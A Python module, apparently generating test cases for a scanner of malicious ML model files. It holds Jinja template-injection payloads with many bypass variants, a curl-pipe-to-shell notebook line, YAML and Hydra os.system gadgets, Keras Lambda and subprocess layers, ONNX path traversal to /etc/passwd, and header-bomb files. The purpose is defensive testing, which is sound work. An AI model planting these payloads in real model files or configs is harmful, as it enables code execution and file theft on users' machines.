"""Techniques outside pickles: templates, graphs, layers, headers, configuration and the code beside it."""

import base64
import io
import json
import struct
import zipfile

from .assembler import CODE, COMMAND, MARKER, Case

SSTI = "{{ cycler.__init__.__globals__.os.popen('%s').read() }}" % COMMAND
TEMPLATES = {
    "cycler": SSTI,
    "concatenated": "{{ cycler['__in' + 'it__']['__glo' + 'bals__'].os.popen('%s').read() }}" % COMMAND,
    "tilde": "{{ cycler['__in' ~ 'it__']['__glo' ~ 'bals__']['os'].popen('%s').read() }}" % COMMAND,
    "attr-filter": "{{ (cycler|attr('__init__')|attr('__globals__')).os.popen('%s').read() }}" % COMMAND,
    "set-variable": "{%% set a = '__glo' %%}{%% set b = 'bals__' %%}{{ cycler['__in'~'it__'][a~b].os.popen('%s').read() }}" % COMMAND,
    "join-filter": "{{ cycler[['__in','it__']|join][['__glo','bals__']|join].os.popen('%s').read() }}" % COMMAND,
    "hex-escape": "{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'].os.popen('%s').read() }}" % COMMAND,
    "subclasses": "{%% for c in ''.__class__.__mro__[1].__subclasses__() %%}{%% if c.__name__ == '_wrap_close' %%}"
                  "{{ c.__init__.__globals__['system']('%s') }}{%% endif %%}{%% endfor %%}" % COMMAND,
    "format-filter": "{{ cycler['%%sinit%%s'|format('__','__')]['%%sglobals%%s'|format('__','__')].os.popen('%s').read() }}" % COMMAND,
    "reverse-filter": "{{ cycler['__tini__'|reverse]['__slabolg__'|reverse].os.popen('%s').read() }}" % COMMAND,
    "replace-filter": "{{ cycler['XXinitXX'|replace('X','_')]['XXglobalsXX'|replace('X','_')].os.popen('%s').read() }}" % COMMAND,
    "namespace-global": "{{ namespace.__init__.__globals__['os']['po'+'pen']('%s').read() }}" % COMMAND,
}
CHATML = ("{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' }}"
          "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
HONEST_TEMPLATES = {
    "cycler": CHATML,
    "concatenated": "{% set ns = namespace(found=false) %}{% for m in messages %}{% if m.role == 'system' %}"
                    "{% set ns.found = true %}{% endif %}{{ m['con' + 'tent'] | trim }}{% endfor %}",
    "attr-filter": "{{ bos_token }}{% for m in messages %}{{ (m|attr('content')) if false else m['content'] }}{% endfor %}",
    "join-filter": "{{ messages | map(attribute='content') | join('\\n') }}{{ raise_exception('x') if not messages }}",
    "replace-filter": "{% for m in messages %}{{ m.content|replace('</s>', '')|trim }}{% endfor %}{{ strftime_now('%d %b %Y') }}",
    "subclasses": "Never call os.system or ''.__class__ in a prompt. {{ messages[0].content.split('</think>')[-1].lstrip('\\n') }}",
}


def gguf(keys, tensors=()):
    def text(value):
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(keys))
    for key, content in keys:
        out += text(key)
        out += struct.pack("<I", 8) + text(content) if isinstance(content, str) else struct.pack("<II", 4, content)
    for label, shape, kind, offset in tensors:
        out += text(label) + struct.pack("<I", len(shape)) + b"".join(struct.pack("<Q", n) for n in shape) + struct.pack("<IQ", kind, offset)
    return out + bytes(-len(out) % 32) + bytes(64)


def model_card(template):
    return gguf([("general.architecture", "llama"), ("general.name", "case"), ("tokenizer.chat_template", template)],
                [("token_embd.weight", (4, 4), 0, 0)])


def field(number, content):
    if isinstance(content, int):
        return varint(number << 3) + varint(content)
    raw = content.encode() if isinstance(content, str) else content
    return varint(number << 3 | 2) + varint(len(raw)) + raw


def varint(value):
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def onnx_model(location=None, domain="", operator="Relu"):
    tensor = field(1, 2) + field(2, 1) + field(8, "w")
    if location is None:
        tensor += field(9, bytes(8))
    else:
        tensor += field(13, field(1, "location") + field(2, location)) + field(14, 1)
    shape = field(2, field(1, field(1, 1) + field(2, field(1, field(1, 2)))))
    node = field(1, "w") + field(2, "y") + field(4, operator) + (field(7, domain) if domain else b"")
    graph = field(1, node) + field(2, "g") + field(5, tensor) + field(12, field(1, "y") + shape)
    opset = field(8, field(1, "") + field(2, 17))
    return field(1, 8) + field(2, "pytorch") + field(7, graph) + opset


def graph_def(operators):
    return b"".join(field(1, field(1, f"n{i}") + field(2, op) + field(5, field(1, "dtype") + field(2, field(6, 1))))
                    for i, op in enumerate(operators)) + field(4, field(1, 1000))


def saved_model(operators, library=()):
    functions = field(2, field(1, field(1, field(1, "f")) + b"".join(field(3, field(1, "n") + field(2, op)) for op in library)))
    meta = field(1, field(4, "serve") + field(5, "2.15.0")) + field(2, graph_def(operators) + (functions if library else b""))
    return field(1, 1) + field(2, meta)


def keras(layers, module="keras.layers"):
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": layers}, "registered_name": None}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.5.0", "date_saved": "2026-01-01"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(600))
    return out.getvalue()


def layer(name, module="keras.layers", **config):
    return {"module": module, "class_name": name, "config": config, "registered_name": None}


def lambda_layer():
    code = base64.b64encode(b"\xe3" + bytes(60) + CODE.encode()).decode()
    return layer("Lambda", function={"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}})


def h5(config):
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": config}})
        file.attrs["keras_version"] = "2.15.0"
        file.create_dataset("w", data=[1.0, 2.0])
    return out.getvalue()


def safetensors(header, data=bytes(32), length=None):
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def tensor(start, end, shape):
    return {"dtype": "F32", "shape": shape, "data_offsets": [start, end]}


def skops(module, name):
    out = io.BytesIO()
    schema = {"__class__": name, "__module__": module, "__loader__": "FunctionNode",
              "content": {"module_path": module, "function": name}, "protocol": 2, "_skops_version": "0.11"}
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    return out.getvalue()


def notebook(source):
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}
    return json.dumps({"cells": [cell], "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}).encode()


def configured():
    """Configuration that names code: (label, file, positive, honest)."""
    yield "hydra-target", "config.yaml", "model:\n  _target_: os.system\n  command: %s\n" % COMMAND, \
        "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n"
    yield "hydra-target-json", "config.json", json.dumps({"model": {"_target_": "builtins.eval", "_args_": [CODE]}}), \
        json.dumps({"model": {"_target_": "sklearn.svm.SVC", "C": 1}})
    yield "yaml-object-apply", "params.yaml", "a: !!python/object/apply:os.system ['%s']\n" % COMMAND, "a: !env 'HOME'\nb: 1\n"
    yield "yaml-object-new", "hparams.yaml", "a: !!python/object/new:subprocess.Popen [['touch', '%s']]\n" % MARKER, \
        "a: !!python/tuple [1, 2]\n"
    yield "notebook-pipe", "train.ipynb", notebook(["!curl -s http://example.invalid/x | sh\n"]).decode(), \
        notebook(["!pip install -q numpy\n", "import numpy as np\n"]).decode()


def cases():
    for label, template in TEMPLATES.items():
        yield Case(f"template.gguf-{label}", model_card(template), "malicious", "jinja", "m.gguf", {"_template": template.encode()})
        tokenizer = json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": template}).encode()
        yield Case(f"template.config-{label}", tokenizer, "malicious", "jinja", "tokenizer_config.json", {"_template": template.encode()})
    for label, template in HONEST_TEMPLATES.items():
        yield Case(f"template.gguf-{label}.near", model_card(template), "near_miss", "", "m.gguf")
        tokenizer = json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": template}).encode()
        yield Case(f"template.config-{label}.near", tokenizer, "near_miss", "", "tokenizer_config.json")
    for label, location in {"parent": "../../etc/passwd", "absolute": "/etc/passwd", "uri": "http://example.invalid/w",
                            "drive": "C:\\\\secret", "hidden-parent": "a/../../x"}.items():
        yield Case(f"onnx.external-{label}", onnx_model(location), "malicious", "", "m.onnx")
    yield Case("onnx.external.near", onnx_model("weights.bin"), "near_miss", "", "m.onnx", {"weights.bin": bytes(8)})
    yield Case("onnx.plain.near", onnx_model(), "near_miss", "", "m.onnx")
    yield Case("onnx.custom-domain", onnx_model(domain="evil.ops", operator="Run"), "unknown_code", "", "m.onnx")
    for operator in ("ReadFile", "WriteFile", "MatchingFiles", "PyFunc", "EagerPyFunc"):
        yield Case(f"tensorflow.saved-{operator}", saved_model(["Const", operator]), "malicious", "", "saved_model.pb")
        yield Case(f"tensorflow.function-{operator}", saved_model(["Const"], [operator]), "malicious", "", "saved_model.pb")
        yield Case(f"tensorflow.frozen-{operator}", graph_def(["Const", operator]), "malicious", "", "frozen.pb")
    yield Case("tensorflow.saved.near", saved_model(["Const", "MatMul", "Relu"], ["Identity"]), "near_miss", "", "saved_model.pb")
    yield Case("tensorflow.frozen.near", graph_def(["Const", "MatMul", "Relu"]), "near_miss", "", "frozen.pb")
    dense = layer("Dense", units=3)
    yield Case("keras.lambda", keras([dense, lambda_layer()]), "malicious", "", "m.keras")
    yield Case("keras.foreign-module", keras([layer("Popen", "subprocess", args=["touch", MARKER])]), "malicious", "", "m.keras")
    yield Case("keras.get-file", keras([layer("get_file", "keras.utils", origin="http://example.invalid")]), "malicious", "", "m.keras")
    yield Case("keras.lambda.near", keras([dense, layer("Activation", activation="relu")]), "near_miss", "", "m.keras")
    yield Case("keras.h5-lambda", h5([{"class_name": "Lambda", "config": {"function": ["4wEAAA==", None, None]}}]), "malicious", "", "m.h5")
    yield Case("keras.h5-lambda.near", h5([{"class_name": "Dense", "config": {"units": 3}}]), "near_miss", "", "m.h5")
    yield Case("skops.function", skops("os", "system"), "malicious", "", "m.skops")
    yield Case("skops.function.near", skops("numpy", "exp"), "near_miss", "", "m.skops")
    two = {"a": tensor(0, 16, [4]), "b": tensor(16, 32, [4])}
    yield Case("safetensors.plain.near", safetensors(two), "near_miss", "", "m.safetensors")
    for label, data in {
        "overlap": safetensors({"a": tensor(0, 16, [4]), "b": tensor(8, 24, [4])}),
        "gap": safetensors({"a": tensor(0, 8, [2]), "b": tensor(16, 32, [4])}),
        "trailing": safetensors(two, bytes(400)),
        "duplicate-key": safetensors(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[4],"data_offsets":[16,32]}}'),
        "beyond-end": safetensors({"a": tensor(0, 1 << 40, [1 << 38])}),
        "header-bomb": safetensors(b"{" + b" " * 100, length=1 << 60),
    }.items():
        yield Case(f"safetensors.{label}", data, "malformed", "", "m.safetensors")
    for label, data in {"count-bomb": b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1), "tensor-overflow": gguf(
            [("general.architecture", "llama")], [("w", (1 << 40, 1 << 40), 0, 0)]),
            "text-bomb": b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62) + b"x" * 40}.items():
        yield Case(f"gguf.{label}", data, "malformed", "", "m.gguf")
    auto = json.dumps({"architectures": ["X"], "model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}).encode()
    yield Case("config.auto-map", auto, "unknown_code", "", "config.json", {"modeling_x.py": ("import os\nos.system(%r)\n" % COMMAND).encode()})
    yield Case("config.auto-map.near", json.dumps({"architectures": ["BertModel"], "model_type": "bert"}).encode(), "near_miss", "", "config.json")
    for label, file, positive, honest in configured():
        yield Case(f"config.{label}", positive.encode(), "malicious", "", file)
        yield Case(f"config.{label}.near", honest.encode(), "near_miss", "", file)
